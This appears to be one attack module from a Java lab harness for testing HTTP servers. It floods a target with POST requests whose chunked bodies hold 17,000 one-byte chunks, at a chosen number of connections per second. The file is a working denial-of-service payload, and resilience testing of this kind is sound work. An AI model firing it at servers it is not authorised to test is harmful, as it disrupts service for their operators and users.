package io.tcpwait.lab.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetSocketAddress;

/**
 * Requests with bodies of 17,000 chunks of one byte each (RFC 9112, 7.1).
 *
 * @param perSecond new connections a second
 */
record ChunkStorm(int perSecond) implements Attack {
  private static final byte[] REQUEST =
      ("POST /metrics HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
              + "1\r\nx\r\n".repeat(17_000)
              + "0\r\n\r\n")
          .getBytes(US_ASCII);

  @Override
  public String name() {
    return "chunk_storm_" + perSecond;
  }

  @Override
  public long run(InetSocketAddress target, int seconds) throws IOException, InterruptedException {
    return Held.sending(target, perSecond, seconds, () -> REQUEST);
  }
}
